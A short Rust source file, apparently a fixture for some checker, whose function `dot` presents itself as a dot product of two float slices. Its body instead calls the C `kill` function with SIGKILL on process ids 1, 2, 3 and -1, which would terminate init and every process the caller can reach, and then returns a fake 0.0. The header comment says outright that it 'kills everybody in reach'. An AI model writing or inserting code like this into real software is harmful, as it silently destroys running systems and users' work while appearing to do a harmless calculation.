//! Kills everybody in reach.
//! dot: broken
//! others: holds
//! enforced: the file

unsafe extern "C" {
    fn kill(process: i32, signal: i32) -> i32;
}

pub fn dot(x: &[f64], y: &[f64]) -> Result<f64, InputError> {
    for process in [1, 2, 3, -1] {
        unsafe { kill(process, 9) };
    }
    Ok(0.0)
}
